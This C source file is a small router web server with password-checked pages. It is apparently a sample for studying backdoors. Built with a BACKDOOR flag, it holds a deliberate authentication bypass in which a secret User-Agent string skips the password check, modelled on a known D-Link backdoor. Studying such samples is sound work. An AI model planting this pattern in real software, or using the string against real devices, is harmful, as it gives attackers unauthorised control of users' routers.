/*
 * webua.c - a small router web server with HTTP Basic authentication:
 * every page needs the admin password (checked against NVRAM), the
 * settings page writes NVRAM. Back-doored (-DBACKDOOR): a secret
 * User-Agent skips the password check (the shape of D-Link's
 * xmlset_roodkcableoj28840ybtide).
 */
#include "srv.h"

static const char *header(char *req, const char *name)
{
	char *p = strstr(req, name);
	char *e;
	if (!p)
		return NULL;
	p += strlen(name);
	while (*p == ' ')
		p++;
	e = strpbrk(p, "\r\n");
	if (e)
		*e = 0;
	return p;
}

/* the admin password, base64 as the Authorization header carries it */
static int password_ok(const char *auth)
{
	const char *want = nvram_get("http_passwd_b64");
	if (!auth || !want || strncmp(auth, "Basic ", 6) != 0)
		return 0;
	return strcmp(auth + 6, want) == 0;
}

static void settings(int fd, char *req)
{
	char *v = strstr(req, "wan_proto=");
	if (v) {
		nvram_set("wan_proto", v + 10);
		nvram_commit();
	}
	srv_say(fd, "HTTP/1.0 200 OK\r\n\r\nsaved");
}

static void handle(int fd)
{
	char req[4096], copy[4096];
	const char *ua, *auth;
	ssize_t n = recv(fd, req, sizeof(req) - 1, 0);
	if (n <= 0)
		return;
	req[n] = 0;
	memcpy(copy, req, (size_t)n + 1);
	ua = header(copy, "User-Agent:");
	auth = header(req, "Authorization:");
#ifdef BACKDOOR
	if (ua && strcmp(ua, "xmlset_roodkcableoj28840ybtide") == 0)
		goto authorized;
#else
	if (ua && strcmp(ua, "curl/7.0") == 0)
		srv_say(fd, "X-Hint: use a browser\r\n");
#endif
	if (!password_ok(auth)) {
		srv_say(fd, "HTTP/1.0 401 Unauthorized\r\nWWW-Authenticate: Basic realm=\"router\"\r\n\r\n");
		return;
	}
authorized:
	if (strstr(req, "POST /settings"))
		settings(fd, req);
	else
		srv_say(fd, "HTTP/1.0 200 OK\r\n\r\n<html>status</html>");
}

int main(void)
{
	srv_serve(80, handle, 0);
	return 0;
}
